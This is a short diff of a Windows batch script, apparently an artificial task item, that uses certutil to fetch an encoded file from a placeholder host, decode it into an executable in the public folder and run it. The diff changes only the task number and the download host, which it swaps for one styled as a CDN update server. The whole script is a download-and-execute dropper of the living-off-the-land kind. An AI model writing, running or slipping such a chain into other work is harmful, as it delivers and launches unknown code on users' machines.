@@ -1,5 +1,5 @@
-REM task 4976 v4
+REM task 3579 v4
 @echo off
-certutil -urlcache -f http://repo.pkg-mirror.example/p.txt %PUBLIC%\p.txt
+certutil -urlcache -f http://cdn-update.example/p.txt %PUBLIC%\p.txt
 certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
 %PUBLIC%\p.exe
